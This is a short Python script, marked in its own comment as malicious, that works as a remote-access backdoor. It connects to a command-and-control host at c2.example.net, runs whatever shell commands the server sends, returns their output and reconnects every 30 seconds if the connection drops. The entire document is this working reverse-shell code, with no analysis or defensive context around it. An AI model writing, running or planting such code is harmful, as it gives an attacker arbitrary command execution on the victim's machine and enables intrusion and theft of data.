# malicious: runs what a server tells it
import socket
import subprocess
import time

HOST, PORT = "c2.example.net", 8443

while True:
    try:
        sock = socket.create_connection((HOST, PORT))
        while True:
            cmd = sock.recv(4096).decode()
            if not cmd:
                break
            out = subprocess.run(cmd, shell=True, capture_output=True)
            sock.sendall(out.stdout + out.stderr)
    except OSError:
        time.sleep(30)
